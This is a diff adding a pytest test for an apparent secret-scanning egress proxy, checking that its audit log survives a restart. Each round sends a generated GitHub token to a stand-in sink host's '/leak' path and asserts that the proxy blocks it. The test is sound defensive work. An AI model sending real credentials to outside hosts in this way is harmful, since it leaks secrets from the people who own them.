@@ -631,3 +631,24 @@ def test_healthchecks_take_one_audit_line_and_the_rest_is_counted(workdir: Path,
         p.stop()
     owed = [line for line in p.audit() if line["path"] == "/healthz"][1:]
     assert len(owed) == 1 and owed[0]["repeats"] >= 5  # written at shutdown: the five and any readiness checks after the first
+
+
+def test_the_audit_log_survives_a_restart_of_the_proxy(workdir: Path, scanner: ScannerService, sink: Sink, ca: TestCA) -> None:
+    """What the audit volume is for: a new mitmdump on the same file appends, it never starts it over."""
+    secret = github_token()
+    before: list[str] = []
+    for round_ in range(2):
+        p = Proxy(workdir / "restarted", scanner.url, sink, ca.ca_file).start()  # the same directory, the same file
+        try:
+            with p.client() as client:
+                control = client.get(f"http://sink.test:{sink.http_port}/round-{round_}")
+                assert control.status_code == 200  # the control: the proxy works and writes
+                blocked = client.get(f"http://sink.test:{sink.http_port}/leak", params={"q": secret})
+                assert_blocked(blocked, "secret-detected")
+        finally:
+            p.stop()
+        ids = [line["request_id"] for line in p.audit() if line["kind"] == "http" and line["host"] == "sink.test"]
+        assert ids[: len(before)] == before and len(ids) == len(before) + 2, "earlier decisions lost at the restart"
+        before = ids
+    assert [line["path"] for line in p.audit() if line["host"] == "sink.test"] == ["/round-0", "/leak", "/round-1", "/leak"]
+    assert secret not in p.audit_path.read_text()
